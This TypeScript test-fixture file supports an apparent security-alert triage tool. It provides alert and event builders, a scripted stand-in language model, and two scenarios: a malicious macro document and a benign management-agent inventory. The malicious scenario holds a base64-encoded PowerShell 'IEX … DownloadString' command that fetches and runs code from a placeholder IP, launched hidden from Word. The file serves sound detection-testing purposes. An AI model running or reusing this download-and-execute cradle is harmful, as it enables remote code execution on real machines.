import type { AnalysisPorts, Decision, Generation, LanguageModel, Neighbour } from '../../../src/analysis/ports.ts';
import { prepareAlert } from '../../../src/analysis/prepare-alert.ts';
import type { AnalysedAlert } from '../../../src/analysis/prepared-alert.ts';
import type { EventFields, StoredEvent } from '../../../src/core/event.ts';

export const alertAt = Date.UTC(2024, 4, 2, 1, 0, 0);

export function alertWith(fields: EventFields, change: Partial<AnalysedAlert> = {}): AnalysedAlert {
  return {
    id: 1000,
    at: alertAt,
    receivedAt: alertAt,
    sourceId: 1,
    host: 'pc-017',
    severity: 'high',
    title: 'Suspicious process',
    origin: 'rule',
    rules: [
      {
        id: 'r1',
        title: 'Suspicious process',
        titleKo: '의심스러운 프로세스',
        level: 'high',
        techniques: ['T1059.001'],
        tactics: ['execution'],
      },
    ],
    techniques: ['T1059.001'],
    fields,
    ...change,
  };
}

export function eventWith(
  id: number,
  seconds: number,
  parts: Partial<StoredEvent> & { fields: EventFields },
): StoredEvent {
  const at = alertAt + seconds * 1000;
  return {
    id,
    at,
    receivedAt: at,
    sourceId: 1,
    host: 'pc-017',
    category: 'process',
    action: 'process-started',
    ...parts,
  };
}

export type DecideReply = Partial<Decision> | Error;
export type GenerateReply = { value: unknown } | { no: string } | Error;

/** Replies as a model gave them, in order; the last one is repeated. What was asked is kept in `asked`. */
export function scriptedModel(script: {
  decide?: DecideReply[];
  generate?: GenerateReply[];
  tokensOf?: (text: string) => number;
  id?: string | null;
}): LanguageModel & { asked: string[] } {
  const modelId = script.id === undefined ? 'recorded-model' : script.id;
  const asked: string[] = [];
  const next = <T>(replies: T[] | undefined): T => {
    const reply = replies !== undefined && replies.length > 1 ? replies.shift() : replies?.[0];
    if (reply === undefined) throw new Error('The script has no reply for this request.');
    if (reply instanceof Error) throw reply;
    return reply;
  };
  return {
    asked,
    available: () => modelId,
    async decide(request) {
      asked.push(request.prompt);
      const reply = next(script.decide) as Partial<Decision>;
      return {
        modelId: modelId ?? '',
        probabilities: { attack: 0.5, ordinary: 0.5 },
        mass: 0.98,
        promptTokens: 300,
        reusedTokens: 0,
        durationMs: 5,
        ...reply,
      };
    },
    async generate(request): Promise<Generation> {
      asked.push(request.prompt);
      const reply = next(script.generate) as { value: unknown } | { no: string };
      const cost = { modelId: modelId ?? '', promptTokens: 320, outputTokens: 60, durationMs: 9 };
      return 'no' in reply
        ? { kind: 'no_answer', reason: reply.no, ...cost }
        : { kind: 'answer', value: reply.value, ...cost };
    },
    countTokens: async (texts) => texts.map(script.tokensOf ?? ((text) => Math.ceil(text.length / 4))),
  };
}

export function portsWith(parts: {
  events?: StoredEvent[];
  total?: number;
  model?: LanguageModel;
  neighbours?: Neighbour[];
  embeds?: boolean;
}): AnalysisPorts {
  const events = parts.events ?? [];
  return {
    prepare: (alert) => {
      const reader = { context: async () => ({ events, total: parts.total ?? events.length }) };
      return prepareAlert(alert, reader, { windowMs: 60_000, contextLimit: 1000 });
    },
    languageModel: parts.model ?? scriptedModel({ id: null }),
    embedder: {
      available: () => (parts.embeds === false ? null : 'recorded-embedding'),
      embed: async (texts) => ({ modelId: 'recorded-embedding', vectors: texts.map(() => Float32Array.of(1, 0, 0)) }),
    },
    neighbours: { nearest: async (_vector, k) => (parts.neighbours ?? []).slice(0, k) },
  };
}

/** An encoded download started by a word processor, with its context. */
export function documentAttack(): { alert: AnalysedAlert; events: StoredEvent[] } {
  const encoded = Buffer.from(
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/a')",
    'utf16le',
  ).toString('base64');
  const word = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
  const shell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
  const alert = alertWith({
    'process.executable': shell,
    'process.command_line': `powershell.exe -nop -w hidden -enc ${encoded}`,
    'process.parent.executable': word,
    'process.entity_id': 'p2',
    'process.parent.entity_id': 'p1',
    'user.name': 'kim.minji',
    'user.domain': 'CORP',
  });
  const events = [
    eventWith(901, -9, {
      fields: {
        'process.executable': word,
        'process.command_line': 'WINWORD.EXE /n "C:\\Users\\kim.minji\\Downloads\\invoice.docm"',
        'process.entity_id': 'p1',
        'user.name': 'kim.minji',
      },
    }),
    eventWith(902, 2, {
      category: 'network',
      action: 'connection-attempted',
      fields: {
        'process.executable': shell,
        'process.entity_id': 'p2',
        'destination.ip': '203.0.113.45',
        'destination.port': 80,
      },
    }),
    ...Array.from({ length: 30 }, (_, index) =>
      eventWith(910 + index, index - 15, {
        category: 'registry',
        action: 'registry-set',
        fields: {
          'registry.path': `HKLM\\Software\\Vendor\\Value${index}`,
          'process.executable': 'C:\\Windows\\System32\\svchost.exe',
          'process.entity_id': 'p9',
        },
      }),
    ),
  ];
  return { alert, events };
}

/** Inventory by a management agent: looks the same, is not. */
export function managementInventory(): { alert: AnalysedAlert; events: StoredEvent[] } {
  const encoded = Buffer.from('Get-HotFix | Select-Object HotFixID', 'utf16le').toString('base64');
  const agent = 'C:\\Windows\\CCM\\CcmExec.exe';
  const alert = alertWith({
    'process.executable': 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'process.command_line': `powershell.exe -NoProfile -EncodedCommand ${encoded}`,
    'process.parent.executable': agent,
    'process.entity_id': 'q2',
    'process.parent.entity_id': 'q1',
    'user.name': 'SYSTEM',
    'user.domain': 'NT AUTHORITY',
  });
  const events = [
    eventWith(951, -2, {
      category: 'network',
      action: 'connection-attempted',
      fields: {
        'process.executable': agent,
        'process.entity_id': 'q1',
        'destination.ip': '10.20.1.20',
        'destination.port': 443,
      },
    }),
  ];
  return { alert, events };
}
